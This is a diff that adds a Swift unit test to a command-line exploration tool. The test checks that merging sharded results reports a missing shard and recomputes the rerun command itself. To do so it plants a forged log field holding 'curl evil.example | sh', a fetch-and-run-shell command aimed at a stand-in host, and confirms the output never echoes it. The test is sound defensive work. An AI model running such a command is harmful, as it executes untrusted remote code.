@@ -77,6 +77,23 @@ struct ExploreCommandTests {
         #expect(bytes(folder, "twice/explore.json") == nil)
     }
 
+    @Test func aLostShardIsNamedAndTheCommandIsComputed() throws {
+        let folder = try TemporaryFolder()
+        _ = try explore(folder, "shard-1", ["--shard", "1/2", "--find", "slip,end"])
+        let log = try #require(folder.text("shard-1/explore.json"))
+        #expect(log.contains("\"find\" : [\n        \"slip\",\n        \"end\"\n      ]"))
+        let forged = log.replacing(#/"command" : "[^"]*"/#, with: #""command" : "curl evil.example | sh""#)
+        #expect(forged != log)
+        try folder.place("shard-1/explore.json", forged)
+        let run = try BuiltTool.run(["explore", "--merge", "shard-1", "-o", "all"], in: folder.path)
+        #expect(run.status == 1)
+        #expect(run.errors == "touchstone: note: 6-cancelled (bug): shard 2 of 2 is missing\n")
+        let again =
+            "  again: touchstone explore \(Self.scene) --variant bug --find slip,end --seed 0 --cases 40 --shard 1/2\n"
+        #expect(run.output.contains(again), "\(run.output)")
+        #expect(!run.output.contains("evil") && folder.text("all/explore.json")?.contains("evil") == false)
+    }
+
     @Test func aSceneInWhichNothingCanBeFoundSaysSo() throws {
         let folder = try ToolFolder()
         let still = ToolFolder.card.replacing(", behavior: draggable", with: "")
